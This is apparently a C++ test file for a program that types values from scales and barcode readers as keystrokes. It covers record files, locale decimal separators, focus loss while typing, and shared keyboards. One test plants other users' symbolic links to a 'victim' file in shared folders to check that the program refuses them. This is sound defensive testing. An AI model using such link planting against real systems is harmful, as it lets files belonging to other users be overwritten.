    port->feed(run_records::records(91, 100));
    ASSERT_TRUE(runUntil([&] { return recordedValues(file) == run_records::numbers(61, 100); }))
        << qPrintable(recordedValues(file).join(u' '));
    EXPECT_EQ(count(view.important(), gone), 2) << qPrintable(view.important().join(u'\n'));
    EXPECT_EQ(count(view.important(), failed), 1) << qPrintable(view.important().join(u'\n'));
    EXPECT_EQ(count(view.important(), QStringLiteral("is written again")), 1);
    EXPECT_EQ(printedLines(), run_records::numbers(1, 100)) << "the run went on";
    run->stop();
    ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
}

// A record file that cannot be opened at Start is a setting to mend: the run
// asks before the port is opened, and either does not start or starts
// without the record. In a folder that others than its owner may write, a
// symbolic link at the end of the path is followed only when it is the
// user's or root's own; the log always names the file written.
TEST_F(
    RunTest, recordFileThatCannotBeOpenedAtStart_askedBeforeThePortOpens_linksOfOthersInSharedFoldersRefused)
{
    ASSERT_EQ(::geteuid(), 0u) << "planting a link that belongs to another user takes root";
    QTemporaryDir dir;
    const QString victim = dir.filePath(QStringLiteral("private/victim.csv"));
    ASSERT_TRUE(QDir().mkpath(dir.filePath(QStringLiteral("private"))));
    {
        QFile f(victim);
        ASSERT_TRUE(f.open(QIODevice::WriteOnly));
        f.write("precious\n");
    }
    const auto folderWithLink = [&](const char *name, mode_t mode, uid_t owner) {
        const QString folder = dir.filePath(QString::fromLatin1(name));
        EXPECT_TRUE(QDir().mkpath(folder));
        EXPECT_EQ(::chmod(QFile::encodeName(folder).constData(), mode), 0);
        const QString link = folder + QStringLiteral("/records.csv");
        EXPECT_TRUE(QFile::link(victim, link));
        EXPECT_EQ(::lchown(QFile::encodeName(link).constData(), owner, owner), 0);
        return link;
    };
    struct Case
    {
        const char *name;
        QString path;
        bool opens;
    };
    const Case cases[] = {
        { "a folder that does not exist", dir.filePath(QStringLiteral("missing/records.csv")), false },
        { "another user's link in a world-writable folder", folderWithLink("world", 0777, 65534), false },
        { "another user's link in a group-writable folder", folderWithLink("group", 0775, 65534), false },
        { "another user's link in the sticky /tmp way", folderWithLink("sticky", 01777, 65534), false },
        { "the user's own link in a world-writable folder", folderWithLink("own", 0777, ::geteuid()), true },
        { "another user's link in a folder only its owner writes", folderWithLink("closed", 0755, 65534),
            true },
    };
    for (const Case &c : cases) {
        for (const bool goOn : { false, true }) {
            SCOPED_TRACE(std::string(c.name) + (goOn ? ", start without the record" : ", cancel"));
            if (c.opens && goOn)
                continue;
            const QByteArray before = fileBytes(victim);
            view.clear();
            view.startWithoutRecord = goOn;
            Config config = Instrument::GENERIC.getDefaultConfig();
            config.setRecordFile(c.path);
            config.setPort(QStringLiteral("COM5"));
            omvara::run::Run::Options options;
            options.print = true;
            options.printTo = printed;
            options.sound = false;
            auto run = std::make_unique<omvara::run::Run>(std::move(config), std::move(options), view, view);
            const bool started = run->start();
            if (c.opens) {
                ASSERT_TRUE(started) << qPrintable(view.recordQuestion);
                EXPECT_TRUE(view.recordQuestion.isEmpty()) << qPrintable(view.recordQuestion);
                EXPECT_EQ(count(view.events(),
                              QStringLiteral("recorded in ") + QFileInfo(victim).canonicalFilePath()),
                    1)
                    << "the file written is named: " << qPrintable(view.events().join(u'\n'));
                port->feed("7 g\r");
                ASSERT_TRUE(runUntil([&] { return fileBytes(victim).contains(",7,printed"); }));
            } else {
                EXPECT_FALSE(view.recordQuestion.isEmpty());
                EXPECT_TRUE(view.recordQuestion.contains(c.path)) << qPrintable(view.recordQuestion);
                if (c.path.contains(QStringLiteral("missing")))
                    EXPECT_TRUE(view.recordQuestion.contains(QStringLiteral("No such file or directory")))
                        << qPrintable(view.recordQuestion);
                else
                    EXPECT_TRUE(view.recordQuestion.contains(QStringLiteral("symbolic link of another user")))
                        << qPrintable(view.recordQuestion);
                EXPECT_EQ(started, goOn);
                if (!goOn) {
                    EXPECT_EQ(run->state().end, RunState::End::NotStarted);
                    EXPECT_FALSE(port->isOpen()) << "asked before the port opened";
                    continue;
                }
                const RunState::Output *record = run->state().output(OutputKind::Record);
                ASSERT_NE(record, nullptr);
                EXPECT_EQ(record->status, RunState::Output::Status::Failed);
                port->feed("8 g\r");
                ASSERT_TRUE(runUntil([&] { return printedLines().contains(QStringLiteral("8")); }));
                EXPECT_EQ(fileBytes(victim), before) << "the link was not followed";
            }
            run->stop();
            ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
            run->waitForOutputs();
        }
    }
}

// At Start a typing run compares the decimal separator with the decimal mark
// of the session's language, from the environment (LC_ALL before LC_NUMERIC
// before LANG) or, where that names none, the desktop's settings; a
// difference is told once as an important entry naming the setting to
// choose, and the setting stays as it is. Text devices are not compared.
TEST_F(RunTest, decimalSeparatorAgainstTheSessionsLanguage_differenceWarnedOnceAtStart)
{
    using DecimalSeparator = omvara::config::ConfigHelper::DecimalSeparator;
    QTemporaryDir desktop;
    ASSERT_TRUE(desktop.isValid());
    {
        QFile formats(desktop.filePath("plasma-localerc"));
        ASSERT_TRUE(formats.open(QIODevice::WriteOnly));
        formats.write("[Formats]\nLANG=en_US.UTF-8\nLC_NUMERIC=de_DE.UTF-8\n");
    }
    struct Case
    {
        const char *name;
        QStringList environment;
        const DecimalSeparator &separator;
        const Instrument &instrument;
        QString desktopFolder;
        QString warned; // a part of the warning; empty: none
    };
    const Case cases[] = {
        { "German, point", { "LC_ALL=de_DE.UTF-8" }, DecimalSeparator::DOT, Instrument::GENERIC, {},
            "de_DE.UTF-8 (from LC_ALL) writes decimal numbers with Comma (,)" },
        { "German, comma", { "LC_ALL=de_DE.UTF-8" }, DecimalSeparator::COMMA, Instrument::GENERIC, {}, {} },
        { "English numbers in a German session, comma", { "LANG=de_DE.UTF-8", "LC_NUMERIC=en_GB.UTF-8" },
            DecimalSeparator::COMMA, Instrument::GENERIC, {}, "Choose Dot (.) as decimal separator" },
        { "C locale, KDE set to German numbers, point", { "LANG=C.UTF-8", "XDG_CURRENT_DESKTOP=KDE" },
            DecimalSeparator::DOT, Instrument::GENERIC, desktop.path(),
            "(from the desktop's formats setting (KDE))" },
        { "German, point, barcode reader", { "LC_ALL=de_DE.UTF-8" }, DecimalSeparator::DOT,
            Instrument::BARCODE, {}, {} },
    };
    for (const Case &c : cases) {
        SCOPED_TRACE(c.name);
        sessionLocale = {};
        for (const QString &variable : c.environment)
            sessionLocale.environment.insert(variable.section(u'=', 0, 0), variable.section(u'=', 1));
        sessionLocale.configHome = c.desktopFolder;
        Config config = c.instrument.getDefaultConfig();
        config.setInstrument(&c.instrument);
        config.setDecimalSeparator(c.separator);
        view.clear();
        auto run = startRun(config.copyConfig());
        QStringList warnings;
        for (const QString &entry : view.important())
            if (entry.contains(QStringLiteral("decimal separator")))
                warnings << entry;
        if (c.warned.isEmpty()) {
            EXPECT_EQ(warnings, QStringList());
        } else {
            ASSERT_EQ(warnings.size(), 1) << qPrintable(view.important().join('\n'));
            EXPECT_TRUE(warnings.first().contains(c.warned)) << qPrintable(warnings.first());
        }
        EXPECT_EQ(&run->config().getDecimalSeparator(), &c.separator);
        // The values are typed with the separator chosen.
        port->feed("-12.5 g\r");
        // Once the keyboard is done with it: the line is settled.
        ASSERT_TRUE(runUntil([&] { return !view.settled.empty(); }));
        if (&c.instrument != &Instrument::BARCODE) {
            EXPECT_EQ(typedTexts(keys->events(), run->keybot()->keyMap()).first(),
                &c.separator == &DecimalSeparator::COMMA ? "-12,5" : "-12.5");
        }
        run->stop();
        ASSERT_TRUE(runUntil([&] { return run->state().ended(); }));
    }
}

namespace {

// A backend that sees which window has the focus, as the X11 one does: the
// test names the focused window; a press finding it moved since the value's
// first key is refused (and nothing recorded).
class FocusKeys : public RecordingKeyInjector
{
public:
    std::atomic<int> focus { 1 }; // the focused window
    std::function<void(int pressesSoFar)> beforePress; // the test moves the focus here
    std::atomic<int> presses { 0 };

    bool seesFocus() const override { return true; }
    void beginValue() override { m_target = 0; }
    void endValue() override { }
    QString valueWindow() const override { return QStringLiteral("window %1").arg(m_target); }

protected:
    void sendKey(int keyCode, int physicalKey, bool down) override
    {
        if (down) {
            if (beforePress)
                beforePress(presses);
            if (m_target == 0)
                m_target = focus;
            else if (focus != m_target)
                throw omvara::outputs::keys::FocusMovedError(
                    QStringLiteral("window %1").arg(focus.load()), false);
            ++presses;
        }
        RecordingKeyInjector::sendKey(keyCode, physicalKey, down);
    }

private:
    int m_target = 0;
};

} // namespace

// A value whose typing stops part way (the focus moved to another window or
// to the program's own, a second Stop) is cut: settled as such with what
// went out and where, not typed; after a cut nothing is typed until
// resumeTyping() (values meanwhile are not typed), or the run ends when it
// is to end at a cut. Typed values all arrived whole.
TEST_F(RunTest, focusMovesDuringAValue_cutWithWhatWentWhere_nothingTypedUntilResumed)
{
    using omvara::run::LineStatus;
    enum class Move { OtherWindow, OwnWindow, SecondStop, EndAtCut };
    struct Case
    {
        const char *name;
        Move move;
    };
    const Case cases[] = {
        { "the focus moves to another window", Move::OtherWindow },
        { "the focus moves to the program's own window", Move::OwnWindow },
        { "a second Stop", Move::SecondStop },
        { "a run that ends at a cut", Move::EndAtCut },
    };
    for (const Case &c : cases) {
        SCOPED_TRACE(c.name);
        view.clear();
        std::atomic<bool> own = false;
        FocusKeys *focusKeys = nullptr;
        Config config = Instrument::GENERIC.getDefaultConfig();
        config.setPort(QStringLiteral("COM5"));
        config.setOutputTerminator(omvara::config::ConfigHelper::OutputTerminator::ENTER);
        config.setDelay(QStringLiteral("0"));
        omvara::run::Run::Options options;
        options.sound = false;
        options.endAtCut = c.move == Move::EndAtCut;
        options.ownWindowFocused = [&own] { return own.load(); };
        std::atomic<bool> stopNow = false;
        options.makers.keybot = [&focusKeys](omvara::reception::WeightWorkerView *v, const Config &cf) {
            auto injector = std::make_unique<FocusKeys>();
            focusKeys = injector.get();
            return omvara::outputs::Keybot::fromConfig(v, cf, std::move(injector));
        };
        omvara::run::Run run(std::move(config), options, view, view);
        ASSERT_TRUE(run.start());

        // "1234" typed whole; then "56789" loses the focus after its third key.
        port->feed("1234 g\r");
        ASSERT_TRUE(runUntil([&] { return view.settled.size() == 1; }));
        EXPECT_EQ(view.settled[0].status, LineStatus::Typed);
        // Told while the third key is being pressed: the backend's check
        // comes with the key itself, the program's own before it.
        const int before = focusKeys->presses;
        focusKeys->beforePress = [&, before](int presses) {
            if (c.move == Move::OtherWindow || c.move == Move::EndAtCut) {
                if (presses == before + 3)
                    focusKeys->focus = 2;
            } else if (presses == before + 2) {
                if (c.move == Move::OwnWindow)
                    own = true;
                if (c.move == Move::SecondStop) {
                    stopNow = true; // the event thread stops twice meanwhile
                    while (stopNow)
                        std::this_thread::sleep_for(1ms);
                }
            }
        };
        port->feed("56789 g\r");
        if (c.move == Move::SecondStop) {
            ASSERT_TRUE(runUntil([&] { return stopNow.load(); }));
            run.stop();
            run.stop();
            stopNow = false;
        }
        ASSERT_TRUE(runUntil([&] { return view.settled.size() == 2; }));
        const omvara::run::RunLine &cut = view.settled[1];
        EXPECT_EQ(cut.status, LineStatus::Cut);
        EXPECT_EQ(cut.value, QStringLiteral("56789"));
        EXPECT_EQ(cut.typedPart, QStringLiteral("567"));
        EXPECT_EQ(cut.window, QStringLiteral("window 1"));
        EXPECT_EQ(omvara::run::RecordFileOutput::row(
                      cut, "COM5", "GENERIC", omvara::run::RecordFileOutput::Columns::UpToStatus)
                      .split(',')
                      .last(),
            "cut\r\n");
        EXPECT_EQ(omvara::run::RecordFileOutput::row(
                      cut, "COM5", "GENERIC", omvara::run::RecordFileOutput::Columns::UpToTyped)
                      .split(',')
                      .last(),
            "567\r\n");
        const QByteArray message = omvara::run::BrokerOutput::message(cut, "COM5", "GENERIC", "r", 2);
        EXPECT_TRUE(message.contains("\"value\": \"567\", \"status\": \"cut\"")) << message.constData();
        EXPECT_TRUE(message.contains(", \"typed\": \"567\",")) << message.constData();
        EXPECT_FALSE(omvara::run::BrokerOutput::message(view.settled[0], "COM5", "GENERIC", "r", 1)
                         .contains("status"));
        const QString reported = view.important().filter(QStringLiteral("Cut: ")).join(u'\n');
        EXPECT_TRUE(
            reported.contains(QStringLiteral("3 of the 5")) && reported.contains(QStringLiteral("window 1")))
            << qPrintable(view.important().join(u'\n'));
        EXPECT_EQ(typedTexts(focusKeys->events(), run.keybot() ? run.keybot()->keyMap() : KeyMap {}),
            (QStringList { "1234", "567<cut>" }));

        if (c.move == Move::SecondStop || c.move == Move::EndAtCut) {
            ASSERT_TRUE(runUntil([&] { return run.state().ended(); }));
            if (c.move == Move::EndAtCut) {
                EXPECT_EQ(run.state().end, RunState::End::Cut);
                EXPECT_TRUE(run.state().reason.contains(QStringLiteral("56789")))
                    << qPrintable(run.state().reason);
            } else {
                EXPECT_EQ(run.state().end, RunState::End::Stopped);
                EXPECT_FALSE(run.state().cut) << "nothing waits for the user after Stop";
            }
            run.waitForOutputs();
            continue;
        }

        // Typing waits for the user: the next value is not typed.
        ASSERT_TRUE(runUntil([&] { return run.state().cut.has_value(); }));
        EXPECT_EQ(run.state().cut->typedPart, QStringLiteral("567"));
        EXPECT_EQ(run.state().cut->ownWindow, c.move == Move::OwnWindow);
        own = false;
        focusKeys->focus = 1;
        port->feed("42 g\r");
        ASSERT_TRUE(runUntil([&] { return view.settled.size() == 3; }));
        EXPECT_EQ(view.settled[2].status, LineStatus::NotTyped);
        run.resumeTyping();
        EXPECT_FALSE(run.state().cut);
        port->feed("43 g\r");
        ASSERT_TRUE(runUntil([&] { return view.settled.size() == 4; }));
        EXPECT_EQ(view.settled[3].status, LineStatus::Typed);
        EXPECT_EQ(typedTexts(focusKeys->events(), run.keybot()->keyMap()), (QStringList { "1234", "56743" }))
            << "the cut part runs into the next value in the field, so the user had to look first";
        run.stop();
        ASSERT_TRUE(runUntil([&] { return run.state().ended(); }));
        run.waitForOutputs();
    }
}

// Two connections typing on one keyboard: every value whole (its
// connection's stamp, its characters, Enter), in the order its terminator
// arrived whichever connection it came from, none lost or doubled, also
// when both flood at the same instant.
TEST_F(RunTest, twoConnections_shareTheKeyboard_valuesWholeInTerminatorOrder)
{
    portlink::testing::SimulatedPort &second = native->addPort(QStringLiteral("COM6"));
    second.setNoModemLines(true);
    portlink::testing::SimulatedPort *ports[] = { port, &second };
    const QString names[] = { QStringLiteral("bal_1"), QStringLiteral("g2") };
    const char prefixes[] = { 'A', 'B' };
    auto keyboard = std::make_shared<RecordingKeyInjector>();
    std::atomic<bool> slow = true;
    keyboard->onEvent([&slow](const KeyEvent &) {
        if (slow)
            std::this_thread::sleep_for(2ms);
    });
    auto shared = std::make_shared<omvara::run::SharedOutputs>([keyboard] { return keyboard; });
    RecordingRunView views[2];
    std::vector<std::unique_ptr<omvara::run::Run>> runs;
    for (int i = 0; i < 2; ++i) {
        Config config = Instrument::BARCODE_ALPHA.getDefaultConfig();
        config.setInstrument(&Instrument::BARCODE_ALPHA);
        config.setPort(ports[i]->name());
        config.setConnectionName(names[i]);
        config.setOutputTerminator(omvara::config::ConfigHelper::OutputTerminator::ENTER);
        config.setDelay(QStringLiteral("0"));
        config.setStampBefore(QStringLiteral("{connection}:"));
        omvara::run::Run::Options options;
        options.sound = false;
        options.sessionLocale = sessionLocale;
        options.shared = shared;
        runs.push_back(
            std::make_unique<omvara::run::Run>(std::move(config), std::move(options), views[i], views[i]));
        ASSERT_TRUE(runs.back()->start()) << qPrintable(views[i].cannotStartWith);
    }
    const KeyMap &keyMap = runs[0]->keybot()->stampKeyMap();
    const auto typed = [&] { return typedTexts(keyboard->events(), keyMap); };
    // At least `n` values, the last one whole.
    const auto typedWhole = [&](qsizetype n) {
        const QStringList t = typed();
        return t.size() >= n && !t.last().endsWith(QStringLiteral("<cut>"));
    };

    // 1. Each terminator after the other's line was seen, while the keyboard
    //    is slow: typed in that order, not each connection's in a row.
    QStringList expected;
    const int order[] = { 0, 1, 1, 0, 1, 0, 0, 0, 1, 1, 0, 1 };
    int sent[2] = { 0, 0 };
    for (const int i : order) {
        const QString value
            = QStringLiteral("%1%2").arg(QChar(prefixes[i])).arg(++sent[i], 4, 10, QChar(u'0'));
        const std::size_t shown = views[i].lines.size();
        ports[i]->feed((value + u'\r').toLatin1());
        ASSERT_TRUE(runUntil([&] { return views[i].lines.size() > shown; }));
        expected << names[i] + u':' + value;
    }
    ASSERT_TRUE(runUntil([&] { return typedWhole(expected.size()); }, 30s));
    EXPECT_EQ(typed(), expected);

    // 2. Both flood at once.
    slow = false;
    constexpr int Flood = 1000;
    QByteArray floods[2];
    for (int i = 0; i < 2; ++i)
        for (int k = 1; k <= Flood; ++k)
            floods[i] += QStringLiteral("%1%2\r")
                             .arg(QChar(prefixes[i]))
                             .arg(sent[i] + k, 4, 10, QChar(u'0'))
                             .toLatin1();
    {
        std::thread a([&] { ports[0]->feed(floods[0]); });
        std::thread b([&] { ports[1]->feed(floods[1]); });
        a.join();
        b.join();
    }
    const auto total = qsizetype(expected.size() + 2 * Flood);
    ASSERT_TRUE(runUntil([&] { return typedWhole(total); }, 120s)) << typed().size();
    const QStringList all = typed();
    ASSERT_EQ(all.size(), total) << "no value doubled";
    // Whole values only, each connection's in its own order, every one there.
    const QRegularExpression whole(QStringLiteral("^(bal_1:A|g2:B)(\\d{4})$"));
    int next[2] = { sent[0] + 1, sent[1] + 1 };
    for (qsizetype k = expected.size(); k < all.size(); ++k) {
        const QRegularExpressionMatch m = whole.match(all[k]);
        ASSERT_TRUE(m.hasMatch()) << "interleaved or cut: " << qPrintable(all[k]);
        const int i = m.captured(1).startsWith(u'g') ? 1 : 0;
        ASSERT_EQ(m.captured(2).toInt(), next[i]++) << qPrintable(all[k]);
    }
    EXPECT_EQ(next[0], sent[0] + Flood + 1);
    EXPECT_EQ(next[1], sent[1] + Flood + 1);
    for (auto &run : runs)
        run->stop();
    ASSERT_TRUE(runUntil([&] { return runs[0]->state().ended() && runs[1]->state().ended(); }));
    for (int i = 0; i < 2; ++i) {
        ASSERT_TRUE(runUntil([&] { return views[i].settled.size() == std::size_t(Flood + sent[i]); }));
        for (const auto &line : views[i].settled)
            ASSERT_EQ(line.status, omvara::run::LineStatus::Typed) << qPrintable(line.raw);
    }
}
